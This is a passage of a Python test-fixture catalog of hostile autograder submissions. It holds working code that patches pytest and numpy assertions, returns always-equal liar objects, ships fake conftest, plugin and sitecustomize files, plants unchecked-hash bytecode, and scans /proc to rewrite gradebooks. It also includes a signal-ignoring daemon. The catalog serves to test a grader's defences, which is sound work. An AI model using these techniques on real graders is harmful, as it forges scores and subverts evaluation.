"""Hostile submissions: each a real attempt to forge a score or take the grader down.

Widely used Python autograders import learner code into the process that runs the tests,
so a submission can rewrite its own score. Every attack below is code that WOULD forge a
score (or hang, crash or flood a grader) if it ran in the grading process or could reach
the grader's files; tests/test_adversarial.py grades them all in one `grader run --batch`
and checks that each gets exactly what its real (wrong) code deserves.

An attack is a copy of the stubs or of the reference solutions (`base`), plus the
learner's `honest` code (their real, possibly wrong, implementation), plus the hostile
`code`, all appended to one module (`module`, relative to s13_cnn/), plus `extra_files`
dropped into the submission folder (conftest.py, pytest.ini, a fake grader/ package...),
`symlinks`, and optionally packed as a .zip (`as_zip`). Its **control** is the same
submission without `code`, `extra_files` and `symlinks`: base + honest only.

    deserves="equal"    a forging attack: the hostile score equals the control's, per part
    deserves="at_most"  the attack may cost its author points (a hang, a crash, a protocol
                        violation), never gain any: hostile <= control, per part, and no
                        test passes that failed in the control

DoS attacks trigger on one input only (`same_pad(7)`: two tests, one visible and one
hidden) so the batch stays short; everything else in their module is the reference.

Placeholders replaced by `build`: __ADV_MARKER__ (the test's scratch folder: the only
place an attack may write to or send signals into, should confinement ever fail; see
GUARD), __ADV_PORT__ (a TCP/UDP port on 127.0.0.1 the test listens on), __ADV_UNIX__ (an
abstract unix socket name the test listens on).

`requires` names the confinement an attack must not run without (checked against the
worker's own confinement report before the batch; see `unmet`): a fork bomb is run only
where RLIMIT_NPROC binds an unprivileged uid inside a pid namespace, 50 GB only under
RLIMIT_AS, a disk fill only with a private tmpfs and RLIMIT_FSIZE.
"""

from __future__ import annotations

import importlib.util
import os
import py_compile
import shutil
import stat
import sys
import tempfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

PROJECT_ROOT = Path(__file__).resolve().parents[2]
SOLUTIONS = PROJECT_ROOT / "solutions" / "s13_cnn"
STAGES = PROJECT_ROOT / "stages" / "s13_cnn"
BASES = {"stubs": STAGES, "solutions": SOLUTIONS}
PADDING = "padding/padding.py"
DOS_TRIGGER = "same_pad(7)"  # in: test_same_pad_hand_cases[7-3], test_same_pad_keeps_size
DOS_TESTS = ("test_same_pad_hand_cases[7-3]", "test_same_pad_keeps_size")


@dataclass(frozen=True)
class Attack:
    name: str  # slug: the submission's folder name and the test id
    description: str  # one line: what it tries
    base: str  # "stubs" | "solutions": the submission's starting point
    code: str  # hostile code appended to `module` (after `honest`)
    module: str = PADDING
    honest: str = ""  # the learner's real code, in both the hostile copy and the control
    extra_files: dict[str, str | bytes] = field(default_factory=dict)
    symlinks: dict[str, str] = field(default_factory=dict)  # relative path -> link target
    as_zip: bool = False
    deserves: str = "equal"  # "equal" | "at_most" (see the module docstring)
    kind: str = "forge"  # "forge" | "dos" | "intake"
    requires: tuple[str, ...] = ()  # confinement it must not run without (see `unmet`)
    # what the grader must say about it (all optional, checked by the test)
    statuses: tuple[str, ...] = ("ok",)  # acceptable gradebook statuses
    why: tuple[str, ...] = ()  # substrings, any of which the gradebook's why must contain
    attacked: tuple[str, ...] = ()  # test names (no file) the attack hits: not passed
    feedback: tuple[str, ...] = ()  # substrings, one of which their feedback must contain
    naive_safe: bool = False  # harmless to run in a naive in-process grader (read-only)


# ---------------------------------------------------------------------------------------
# Shared snippets (module-level code appended to the submission)

GUARD = r"""
# ---- test-suite safety harness, NOT part of the attack ----------------------------------
# Where the worker is confined, nothing below can reach a real file or process anyway.
# Should confinement ever fail, writes and signals are limited to the test's own scratch
# folder (the marker), so the failure shows up as a failed test, never as damage to the
# files or processes of anyone else on a shared machine.
import os as _adv_os

_ADV_MARKER = r"__ADV_MARKER__"


def _adv_mine(path):
    try:
        real = _adv_os.path.realpath(str(path))
    except Exception:
        return False
    return len(_ADV_MARKER) > 8 and real.startswith(_ADV_MARKER)


def _adv_proc_is_mine(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return len(_ADV_MARKER) > 8 and _ADV_MARKER.encode() in f.read()
    except OSError:
        return False
# ---- end of the harness ------------------------------------------------------------------
"""

ROOTS = r'''
def _adv_roots():
    """Every folder worth searching: cwd, this file and their parents, $HOME, $PWD, the
    usual grader layouts, what every visible process has as cwd/root/arguments, and each
    path named in this process's own command line (a worker's config names the project)."""
    import json, os, sys
    seeds = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)),
             os.environ.get("HOME", ""), os.environ.get("PWD", ""), os.environ.get("TMPDIR", ""),
             "/work/main", "/work", "/autograder/source", "/autograder", "/srv", "/opt",
             "/home", "/root", "/tmp", "/"]

    def paths_in(value):
        if isinstance(value, str) and value.startswith("/"):
            yield value
        elif isinstance(value, dict):
            for v in value.values():
                yield from paths_in(v)
        elif isinstance(value, list):
            for v in value:
                yield from paths_in(v)

    for arg in sys.argv:
        try:
            seeds.extend(paths_in(json.loads(arg)))
        except Exception:
            if arg.startswith("/"):
                seeds.append(arg)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids[:2000]:
        for link in ("cwd", "root"):
            try:
                seeds.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                seeds.extend(a.decode(errors="replace") for a in f.read().split(b"\0")
                             if a.startswith(b"/"))
        except OSError:
            pass
    roots = []
    for seed in seeds:
        p = seed
        while p and p not in roots:
            roots.append(p)
            parent = os.path.dirname(p)
            if parent == p:
                break
            p = parent
    return roots


def _adv_find(rels, walk_seconds=1.0):
    """The first file at root/rel for any root above, else a bounded walk of '/'."""
    import os, time
    for root in _adv_roots():
        for rel in rels:
            path = os.path.join(root, rel)
            if os.path.isfile(path):
                return path
    end = time.monotonic() + walk_seconds
    for folder, dirs, files in os.walk("/"):
        if time.monotonic() > end:
            break
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for rel in rels:
            head, name = os.path.split(rel)
            if name in files and folder.endswith(head):
                return os.path.join(folder, name)
    return None
'''

# The learner's real code in most forging attacks: right shapes, types and error
# handling for pad specs, wrong values. It earns a little partial credit on its own (the
# control), which the attack must neither add to nor take away.
WRONG = r"""
def output_size(size, kernel, stride=1, pad=0):
    return size  # wrong: kernel, stride and pad ignored


def same_pad(kernel):
    return 0  # wrong for every kernel but 1


def pad2d(x, pad, value=0.0):
    if x.ndim != 4:
        raise ValueError(f"pad2d: expected an NHWC array, got shape {x.shape}")
    (top, bottom), (left, right) = normalize_pad(pad)
    n, h, w, c = x.shape
    return np.zeros((n, h + top + bottom, w + left + right, c), dtype=x.dtype)  # no x, no value
"""

# same_pad wrong on top of the reference (stdout attack: the control is not full marks)
WRONG_SAME_PAD = r"""
def same_pad(kernel):
    return kernel // 2 + 1  # wrong: off by one, and no error for even kernels
"""

# The DoS attacks wrap the reference's same_pad: the attack runs on same_pad(7) only.
DOS_WRAP = r"""
_adv_honest_same_pad = same_pad


def same_pad(kernel):
    if kernel == 7:
        _adv_attack()
    return _adv_honest_same_pad(kernel)
"""

# A liar that claims equality through every protocol numpy and Python offer.
LIARS = r'''
import numpy as _np

_ADV_TRUE = ("equal", "isclose", "less_equal", "greater_equal", "isfinite", "logical_or",
             "logical_and", "logical_not", "isnan", "less", "greater")


class _AdvInt(int):
    """An int equal to everything (assert got == expected, got != expected: both lie)."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


class _AdvArrayLike:
    """Not an ndarray: every comparison, ufunc and array function says 'equal'."""

    def __init__(self, shape, dtype):
        self.shape, self.dtype = tuple(shape), _np.dtype(dtype)
        self.ndim, self.size = len(self.shape), int(_np.prod(self.shape))
        self.flags = {"WRITEABLE": True}

    def __eq__(self, other):
        return _np.ones(self.shape, bool)

    def __ne__(self, other):
        return _np.zeros(self.shape, bool)

    __hash__ = object.__hash__

    def __sub__(self, other):
        return _np.zeros(self.shape, self.dtype)

    __rsub__ = __sub__

    def __abs__(self):
        return _np.zeros(self.shape, self.dtype)

    def __bool__(self):
        return True

    def __len__(self):
        return self.shape[0] if self.shape else 1

    def __getitem__(self, index):
        return _np.zeros(self.shape, self.dtype)[index]

    def astype(self, *args, **kwargs):
        return self

    def all(self, *args, **kwargs):
        return True

    def any(self, *args, **kwargs):
        return False

    def __array__(self, dtype=None, copy=None):
        return _np.zeros(self.shape, dtype or self.dtype)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shapes = [getattr(i, "shape", ()) for i in inputs]
        shape = _np.broadcast_shapes(*shapes)
        if ufunc.__name__ in _ADV_TRUE:
            return _np.ones(shape, bool)
        return _np.zeros(shape)

    def __array_function__(self, func, types, args, kwargs):
        name = func.__name__
        if name in ("allclose", "array_equal", "array_equiv", "all"):
            return True
        if name in ("isclose", "equal", "isfinite"):
            return _np.ones(self.shape, bool)
        if name.startswith("assert_"):
            return None
        if name in ("any",):
            return False
        if name in ("shape",):
            return self.shape
        return _np.zeros(self.shape, self.dtype)


def _adv_pad_shape(x, pad):
    (top, bottom), (left, right) = normalize_pad(pad)
    n, h, w, c = x.shape
    return (n, h + top + bottom, w + left + right, c)
'''


# ---------------------------------------------------------------------------------------
# Extra files shipped in submissions (never staged, never run by this grader)

CONFTEST_FORGE = r'''"""Submission conftest: every test report says passed, whatever happened."""
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    for item in items:  # and nothing slow or hostile runs at all
        item.obj = lambda *args, **kwargs: None


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
'''

INI_FORGE = """[pytest]
addopts = -p no:grader.plugin -p no:terminal -q --co --deselect=grader --ignore=grader
python_files = nothing_matches_*.py
testpaths = nowhere
"""

PYPROJECT_FORGE = """[project]
name = "innocent"
version = "0"

[tool.pytest.ini_options]
addopts = "-p no:grader.plugin --co"
python_files = ["nothing_matches_*.py"]
"""

FAKE_TESTS = r'''"""The submission's own copy of the tests: same names, nothing checked."""


def test_output_size_hand_cases():
    pass


def test_pad2d_matches_np_pad():
    pass


def test_pad2d_matches_torch():
    pass


def test_same_pad_keeps_size():
    pass
'''

FAKE_PLUGIN = r'''"""A fake grader.plugin: every test recorded as passed at full points."""
import json


def pytest_addoption(parser):
    group = parser.getgroup("grader")
    for name in ("--grader-results", "--grader-staged", "--grader-sandbox", "--grader-timeout",
                 "--grader-skip-file", "--grader-watchdog", "--grader-hard-grace"):
        group.addoption(name)


def pytest_runtest_logreport(report):
    report.outcome = "passed"


def pytest_collection_modifyitems(config, items):
    path = config.getoption("grader_results")
    if path:
        with open(path, "a") as out:
            for item in items:
                out.write(json.dumps({"event": "test", "nodeid": item.nodeid,
                                      "outcome": "passed", "duration": 0.0}) + "\n")
            out.write(json.dumps({"event": "finish", "exitstatus": 0}) + "\n")
    items[:] = []
'''

FAKE_WEIGHTS = r'''"""A fake grader.weights: nothing is worth a point, so nothing can be lost."""
DEFAULT_WEIGHT = 0.0


def points_for(file_name, function_name):
    return 0.0
'''

FAKE_CHECKS = r'''"""A fake coursekit.checks: every teaching assertion passes."""
import numpy as np


def _ok(*args, **kwargs):
    return None


assert_close = assert_shape = check_dtype = assert_unchanged = _ok
tolerance = lambda *dtypes: (1e300, 1e300)  # noqa: E731


def readonly(*arrays):
    return arrays[0] if len(arrays) == 1 else arrays


def unpack(result, *names, what=""):
    return tuple(result)
'''

SITECUSTOMIZE = r'''"""Runs at interpreter start wherever this folder is on sys.path."""
try:
    import numpy.testing as _npt
    for _name in dir(_npt):
        if _name.startswith("assert_"):
            setattr(_npt, _name, lambda *a, **k: None)
    import numpy as _np
    _np.allclose = lambda *a, **k: True
    _np.array_equal = lambda *a, **k: True
except Exception:
    pass
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except Exception:
    pass
'''

INIT_FORGE = r'''"""Stage 13 (the submission's own package __init__, which patches the checks)."""
import sys

try:
    import numpy.testing as _npt
    _npt.assert_allclose = lambda *a, **k: None
    _npt.assert_array_equal = lambda *a, **k: None
except Exception:
    pass
for _name, _mod in list(sys.modules.items()):
    for _attr in ("assert_close", "assert_int", "assert_shape", "check_dtype", "_check_size"):
        if hasattr(_mod, _attr):
            try:
                setattr(_mod, _attr, lambda *a, **k: None)
            except Exception:
                pass
'''


def _solutions_pyc() -> bytes:
    """The reference padding.py compiled with an unchecked hash: Python loads such a .pyc
    from __pycache__ without looking at the .py beside it (PEP 552)."""
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "padding.pyc"
        py_compile.compile(
            str(SOLUTIONS / "padding" / "padding.py"),
            cfile=str(out),
            dfile="padding.py",
            doraise=True,
            invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
        )
        return out.read_bytes()


def _pyc_name() -> str:
    return Path(importlib.util.cache_from_source("padding.py")).name


# ---------------------------------------------------------------------------------------
# The catalog

ATTACKS: list[Attack] = []


def _add(attack: Attack) -> None:
    ATTACKS.append(attack)


# -- 1. the test framework ------------------------------------------------------------------

_add(
    Attack(
        "pytest_patched",
        "patches pytest from inside the module: Function.runtest, CallInfo.from_call and "
        "TestReport made to pass, pytest.approx/raises neutered, unittest asserts no-ops",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=r"""
import contextlib as _adv_contextlib
try:
    import pytest as _adv_pytest
    import _pytest.outcomes
    import _pytest.python
    import _pytest.reports
    import _pytest.runner

    _pytest.python.Function.runtest = lambda self: None
    _adv_from_call = _pytest.runner.CallInfo.from_call.__func__

    def _adv_quiet_from_call(cls, func, when, reraise=None):
        def quiet():
            try:
                return func()
            except BaseException:
                return None
        return _adv_from_call(cls, quiet, when, reraise)

    _pytest.runner.CallInfo.from_call = classmethod(_adv_quiet_from_call)
    _adv_from_item = _pytest.reports.TestReport.from_item_and_call.__func__

    def _adv_passed_report(cls, item, call):
        report = _adv_from_item(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _pytest.reports.TestReport.from_item_and_call = classmethod(_adv_passed_report)

    class _AdvAny:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

    _adv_pytest.approx = lambda *a, **k: _AdvAny()
    _adv_pytest.raises = lambda *a, **k: _adv_contextlib.suppress(BaseException)
    _pytest.outcomes.fail = lambda *a, **k: None
except Exception:
    pass
import unittest as _adv_unittest
for _adv_name in dir(_adv_unittest.TestCase):
    if _adv_name.startswith("assert"):
        setattr(_adv_unittest.TestCase, _adv_name, lambda *a, **k: None)
""",
    )
)

_add(
    Attack(
        "numpy_testing_patched",
        "no-ops numpy.testing's asserts, makes np.allclose/array_equal/isclose always true, "
        "finds coursekit.checks on disk and no-ops assert_close/assert_int in every loaded module",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=ROOTS
        + r"""
import sys as _adv_sys
import numpy as _adv_np
import numpy.testing as _adv_npt


def _adv_noop(*args, **kwargs):
    return None


for _adv_name in dir(_adv_npt):
    if _adv_name.startswith("assert_"):
        setattr(_adv_npt, _adv_name, _adv_noop)
_adv_np.allclose = lambda *a, **k: True
_adv_np.array_equal = lambda *a, **k: True
_adv_np.array_equiv = lambda *a, **k: True
_adv_np.isclose = lambda a, b, *r, **k: _adv_np.ones(
    _adv_np.broadcast(_adv_np.asarray(a), _adv_np.asarray(b)).shape, bool)
import os as _adv_os_np
for _adv_root in _adv_roots():
    if _adv_os_np.path.isdir(_adv_os_np.path.join(_adv_root, "coursekit")):
        _adv_sys.path.append(_adv_root)
        break
try:
    import coursekit.checks as _adv_checks
    for _adv_name in ("assert_close", "assert_shape", "check_dtype", "assert_unchanged"):
        setattr(_adv_checks, _adv_name, _adv_noop)
except Exception:
    pass
for _adv_mod in list(_adv_sys.modules.values()):  # test modules hold their own references
    for _adv_name in ("assert_close", "assert_int", "assert_shape", "check_dtype",
                      "_check_size", "assert_allclose", "expect_value_error"):
        if (getattr(_adv_mod, "__dict__", {}).get(_adv_name) is not None
                and _adv_mod is not _adv_sys.modules.get(__name__)):
            try:
                setattr(_adv_mod, _adv_name, _adv_noop)
            except Exception:
                pass
""",
    )
)

_add(
    Attack(
        "builtins_patched",
        "hooks builtins.__import__ (sabotages every checker imported later) and makes "
        "builtins.isinstance vouch for duck-typed liar results",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=LIARS
        + r"""
import builtins as _adv_builtins
import sys as _adv_sys

_adv_real_isinstance = _adv_builtins.isinstance
_adv_real_import = _adv_builtins.__import__


def _adv_isinstance(obj, cls):
    if type(obj) in (_AdvArrayLike, _AdvInt):
        return True
    return _adv_real_isinstance(obj, cls)


_ADV_CHECKERS = ("assert_close", "assert_int", "assert_shape", "check_dtype", "_check_size",
                 "assert_allclose", "assert_array_equal")
_adv_busy = []


def _adv_sabotage(module):
    names = getattr(module, "__dict__", {})  # no getattr: lazy module __getattr__s import
    for name in _ADV_CHECKERS:
        if names.get(name) is not None and module is not _adv_sys.modules.get(__name__):
            try:
                setattr(module, name, lambda *a, **k: None)
            except Exception:
                pass


def _adv_import(name, globals=None, locals=None, fromlist=(), level=0):
    module = _adv_real_import(name, globals, locals, fromlist, level)
    if _adv_busy:  # an import made while sabotaging: leave it alone
        return module
    _adv_busy.append(1)
    try:
        _adv_sabotage(module)
        if globals is not None and globals.get("__name__") in _adv_sys.modules:
            _adv_sabotage(_adv_sys.modules[globals["__name__"]])
    except Exception:
        pass
    finally:
        _adv_busy.pop()
    return module


_adv_builtins.isinstance = _adv_isinstance
_adv_builtins.__import__ = _adv_import
for _adv_mod in list(_adv_sys.modules.values()):
    _adv_sabotage(_adv_mod)


_adv_wrong = (output_size, same_pad, pad2d)


def output_size(size, kernel, stride=1, pad=0):
    return _AdvInt(_adv_wrong[0](size, kernel, stride, pad))


def same_pad(kernel):
    return _AdvInt(_adv_wrong[1](kernel))


def pad2d(x, pad, value=0.0):
    got = _adv_wrong[2](x, pad, value)
    return _AdvArrayLike(got.shape, got.dtype)
""",
        deserves="at_most",
    )
)

# -- 2. results that lie ----------------------------------------------------------------------

_add(
    Attack(
        "eq_and_array_protocol_liars",
        "returns an int subclass whose __eq__/__ne__ always agree, and a non-ndarray whose "
        "__eq__, __array_ufunc__ and __array_function__ claim equality (isclose, allclose...)",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=LIARS
        + r"""


_adv_wrong = (output_size, same_pad, pad2d)


def output_size(size, kernel, stride=1, pad=0):
    return _AdvInt(_adv_wrong[0](size, kernel, stride, pad))


def same_pad(kernel):
    return _AdvInt(_adv_wrong[1](kernel))


def pad2d(x, pad, value=0.0):
    got = _adv_wrong[2](x, pad, value)  # the learner's errors stay the learner's errors
    return _AdvArrayLike(got.shape, got.dtype)
""",
        deserves="at_most",  # a liar is not data: where the plain value passed, the liar fails
    )
)

_add(
    Attack(
        "ndarray_subclass_liar",
        "returns an np.ndarray subclass (right shape and dtype, wrong values) whose __eq__, "
        "__sub__, __abs__, astype, __array_ufunc__ and __array_function__ all report a match",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=r"""
import numpy as _np

_ADV_TRUE = ("equal", "isclose", "less_equal", "greater_equal", "isfinite", "logical_and",
             "logical_or", "isnan", "less", "greater")


class _AdvLie(_np.ndarray):
    def __eq__(self, other):
        return _np.ones(self.shape, bool)

    def __ne__(self, other):
        return _np.zeros(self.shape, bool)

    __hash__ = None

    def __sub__(self, other):
        return _np.zeros(self.shape).view(_AdvLie)

    __rsub__ = __sub__

    def __abs__(self):
        return _np.zeros(self.shape).view(_AdvLie)

    def astype(self, *args, **kwargs):
        return self

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        shape = _np.broadcast_shapes(*(getattr(i, "shape", ()) for i in inputs))
        if ufunc.__name__ in _ADV_TRUE:
            return _np.ones(shape, bool)
        if ufunc.__name__ in ("subtract", "absolute", "multiply"):
            return _np.zeros(shape)
        plain = [i.view(_np.ndarray) if isinstance(i, _np.ndarray) else i for i in inputs]
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        name = func.__name__
        if name in ("allclose", "array_equal", "array_equiv"):
            return True
        if name in ("isclose",):
            return _np.ones(self.shape, bool)
        if name.startswith("assert_"):
            return None
        plain = [a.view(_np.ndarray) if isinstance(a, _np.ndarray) else a for a in args]
        return func(*plain, **kwargs)


_adv_wrong_pad2d = pad2d


def pad2d(x, pad, value=0.0):
    return _adv_wrong_pad2d(x, pad, value).view(_AdvLie)
""",
        deserves="at_most",  # a subclass is not data: it may lose what the plain array passed
    )
)

# -- 3. files in the submission -------------------------------------------------------------

_add(
    Attack(
        "ships_hostile_files",
        "ships conftest.py (root, s13_cnn/, padding/) forcing reports to passed; pytest.ini, "
        "tox.ini, setup.cfg, pyproject.toml disabling the grader; look-alike tests; a fake grader/ "
        "(plugin, weights 0) and coursekit/checks.py; sitecustomize, usercustomize, a .pth; "
        "hostile __init__.py files; a reference .pyc (unchecked hash, PEP 552) beside the stub",
        base="stubs",
        code="",
        naive_safe=True,
        extra_files={
            "conftest.py": CONFTEST_FORGE,
            "s13_cnn/conftest.py": CONFTEST_FORGE,
            "s13_cnn/padding/conftest.py": CONFTEST_FORGE,
            "pytest.ini": INI_FORGE,
            "tox.ini": INI_FORGE,
            "setup.cfg": INI_FORGE.replace("[pytest]", "[tool:pytest]"),
            "pyproject.toml": PYPROJECT_FORGE,
            "s13_cnn/pytest.ini": INI_FORGE,
            "s13_cnn/padding/test_padding.py": FAKE_TESTS,
            "tests/test_padding_hidden.py": FAKE_TESTS,
            "grader/__init__.py": "",
            "grader/plugin.py": FAKE_PLUGIN,
            "grader/weights.py": FAKE_WEIGHTS,
            "grader/hidden/__init__.py": "",
            "grader/hidden/test_padding_hidden.py": FAKE_TESTS,
            "coursekit/__init__.py": "",
            "coursekit/checks.py": FAKE_CHECKS,
            "sitecustomize.py": SITECUSTOMIZE,
            "usercustomize.py": SITECUSTOMIZE,
            "s13_cnn/sitecustomize.py": SITECUSTOMIZE,
            "zz_forge.pth": "import sitecustomize\n",
            "s13_cnn/__init__.py": INIT_FORGE,
            "s13_cnn/padding/__init__.py": INIT_FORGE,
            f"s13_cnn/padding/__pycache__/{_pyc_name()}": b"",  # filled in by build()
        },
    )
)

_add(
    Attack(
        "symlinks_to_solutions",
        "submits padding/padding.py as a symbolic link to the instructor's reference, and im2col/ "
        "as a link to the reference folder",
        base="stubs",
        code="",
        kind="intake",
        symlinks={
            "s13_cnn/padding/padding.py": str(SOLUTIONS / "padding" / "padding.py"),
            "s13_cnn/im2col": str(SOLUTIONS / "im2col"),
        },
        why=("stub used for missing padding/padding.py",),
    )
)

_add(
    Attack(
        "zip_slip_and_symlink_members",
        "a .zip with a member '../escaped_conftest.py' (zip slip), a symlink member to the "
        "reference conv.py and an absolute-path member",
        base="stubs",
        honest=WRONG,
        code="",
        kind="intake",
        as_zip=True,
        extra_files={
            "../escaped_conftest.py": CONFTEST_FORGE,
            "__ADV_MARKER__/zip_absolute_conftest.py": CONFTEST_FORGE,
        },
        symlinks={"s13_cnn/conv/conv.py": str(SOLUTIONS / "conv" / "conv.py")},
        deserves="at_most",
        statuses=("invalid",),
        why=("bad zip",),
    )
)

# -- 4. the grader's outputs -----------------------------------------------------------------

WRITE_RESULTS = (
    ROOTS
    + r'''
import json as _adv_json
import glob as _adv_glob


def _adv_targets():
    """The grader's own output paths: from every visible process's command line, then
    the usual names in and above cwd, this file, $TMPDIR and /autograder/results."""
    import os
    found = {"out": set(), "json": set(), "events": set(), "gradescope": set()}
    flags = {b"--out": "out", b"--json": "json", b"--grader-results": "events",
             b"--gradescope": "gradescope", b"--junit": "json", b"--feedback": "json"}
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        for flag, key in flags.items():
            if flag in args[:-1]:
                found[key].add(args[args.index(flag) + 1].decode(errors="replace"))
    for root in _adv_roots():
        for name in ("grades", "out", "results"):
            if os.path.isfile(os.path.join(root, name, "gradebook.csv")):
                found["out"].add(os.path.join(root, name))
        if os.path.isfile(os.path.join(root, "gradebook.csv")):
            found["out"].add(root)
        found["events"].update(_adv_glob.glob(os.path.join(root, "grader-run-*", "*.jsonl")))
    found["gradescope"].add("/autograder/results/results.json")
    return found


def _adv_forge_files():
    import os
    targets = _adv_targets()
    for out in targets["out"]:
        book = os.path.join(out, "gradebook.csv")
        if _adv_mine(book) and os.path.isfile(book):
            lines = open(book).read().splitlines()
            header = lines[0].split(",")
            rows = [header]
            for line in lines[1:]:
                cells = line.split(",")
                if len(cells) >= len(header):
                    cells[1:len(header) - 4] = ["999"] * (len(header) - 5)
                    cells[header.index("total")] = "999"
                    cells[header.index("status")] = "ok"
                rows.append(cells)
            with open(book, "w") as f:
                f.write("\n".join(",".join(r) for r in rows) + "\n")
        for path in _adv_glob.glob(os.path.join(out, "results", "*.json")):
            if _adv_mine(path):
                data = _adv_json.load(open(path))
                data["score"] = data.get("max_score", 999)
                for test in data.get("tests", []):
                    test["outcome"], test["points"] = "passed", test.get("max_points", 1)
                _adv_json.dump(data, open(path, "w"))
        forged = os.path.join(out, "results.json")
        if _adv_mine(forged):
            _adv_json.dump({"score": 999, "tests": []}, open(forged, "w"))
    for events in targets["events"]:
        if _adv_mine(events) and os.path.isfile(events):
            nodeids = []
            for line in open(events):
                try:
                    event = _adv_json.loads(line)
                except ValueError:
                    continue
                if event.get("event") == "collected":
                    nodeids = [item["nodeid"] for item in event.get("items", [])]
            with open(events, "a") as f:
                for nodeid in nodeids:
                    f.write(_adv_json.dumps({"event": "test", "nodeid": nodeid,
                                             "outcome": "passed", "duration": 0.0,
                                             "feedback": "", "crashed": False}) + "\n")
                f.write(_adv_json.dumps({"event": "finish", "exitstatus": 0}) + "\n")
    for path in targets["json"] | targets["gradescope"]:
        if _adv_mine(path):
            _adv_json.dump({"score": 999, "tests": []}, open(path, "w"))
'''
)

_add(
    Attack(
        "writes_results_and_gradebook",
        "finds the grader's output paths (/proc/*/cmdline: --out, --json, --grader-results; "
        "cwd and parents, $TMPDIR, /autograder/results) and rewrites the gradebook, the result "
        "JSONs and the plugin's event log with full marks, at import and on every call",
        base="stubs",
        honest=WRONG,
        code=GUARD
        + WRITE_RESULTS
        + r"""
try:
    _adv_forge_files()
except Exception:
    pass
_adv_wrong = (output_size, same_pad, pad2d)


def output_size(*args, **kwargs):
    try:
        _adv_forge_files()
    except Exception:
        pass
    return _adv_wrong[0](*args, **kwargs)


def same_pad(*args, **kwargs):
    try:
        _adv_forge_files()
    except Exception:
        pass
    return _adv_wrong[1](*args, **kwargs)


def pad2d(*args, **kwargs):
    try:
        _adv_forge_files()
    except Exception:
        pass
    return _adv_wrong[2](*args, **kwargs)
""",
    )
)

_add(
    Attack(
        "escaped_daemon_forges_late",
        "double-forks a setsid daemon that ignores SIGHUP/SIGTERM and, for 90 s, keeps appending "
        "'passed' events after the plugin's 'finish' and rewriting the gradebook once written",
        base="stubs",
        honest=WRONG,
        code=GUARD
        + WRITE_RESULTS
        + r"""
import signal as _adv_signal
import time as _adv_time


def _adv_daemon():
    import os
    try:
        child = os.fork()
    except OSError:
        return
    if child:
        try:
            os.waitpid(child, 0)
        except OSError:
            pass
        return
    try:  # first child: new session, then fork again so init adopts the daemon
        os.setsid()
        if os.fork():
            os._exit(0)
        for sig in (_adv_signal.SIGHUP, _adv_signal.SIGTERM, _adv_signal.SIGINT):
            _adv_signal.signal(sig, _adv_signal.SIG_IGN)
        end = _adv_time.monotonic() + 90  # bounded: never outlives the test by much
        while _adv_time.monotonic() < end:
            try:
                _adv_forge_files()
            except Exception:
                pass
            _adv_time.sleep(0.5)
    finally:
        os._exit(0)


_adv_daemon()
""",
    )
)

# -- 5. exit codes and output ------------------------------------------------------------------

_add(
    Attack(
        "exits_with_status_zero",
        "mid-test: os._exit(0) in pad2d and output_size, sys.exit(0) and KeyboardInterrupt in "
        "same_pad, each after printing a pytest success line, and an atexit hook printing another",
        base="stubs",
        naive_safe=True,
        statuses=("crashed",),
        why=("crashed",),
        code=r"""
import atexit as _adv_atexit
import os as _adv_os_exit
import sys as _adv_sys_exit

_adv_atexit.register(lambda: print("=== 44 passed in 0.10s ===", flush=True))
_ADV_PASSED = "============================== 44 passed in 0.12s =============================="


def output_size(size, kernel, stride=1, pad=0):
    if (size, kernel) == (5, 3):  # the hand-checked cases: a naive grader's first tests
        print(_ADV_PASSED, flush=True)
        _adv_os_exit._exit(0)
    raise NotImplementedError("output_size")


def same_pad(kernel):
    print(_ADV_PASSED, flush=True)
    if kernel % 2:
        _adv_sys_exit.exit(0)
    raise KeyboardInterrupt


def pad2d(x, pad, value=0.0):
    if x.shape == (1, 2, 3, 1):
        print("PASSED", flush=True)
        _adv_os_exit._exit(0)
    raise NotImplementedError("pad2d")
""",
    )
)

_add(
    Attack(
        "fake_pass_lines_on_stdout",
        "prints pytest pass lines, a Gradescope results.json, the grader's result JSON and the "
        "plugin's event lines on stdout/stderr (print, os.write, a spamming thread, 8 MB bursts)",
        base="solutions",
        honest=WRONG_SAME_PAD,
        code=r"""
import json as _adv_json
import os as _adv_os_out
import sys as _adv_sys_out
import threading as _adv_threading

_ADV_LINES = "\n".join([
    "tests/test_padding.py::test_output_size_hand_cases PASSED",
    "============================== 44 passed in 0.12s ==============================",
    _adv_json.dumps({"score": 44, "max_score": 44, "tests": [{"name": "all", "score": 44,
                     "max_score": 44, "status": "passed"}]}),
    _adv_json.dumps({"schema": "s13-grader-result/1", "status": "ok", "score": 44,
                     "max_score": 44}),
    _adv_json.dumps({"event": "test", "nodeid": "grader/hidden/test_padding_hidden.py::"
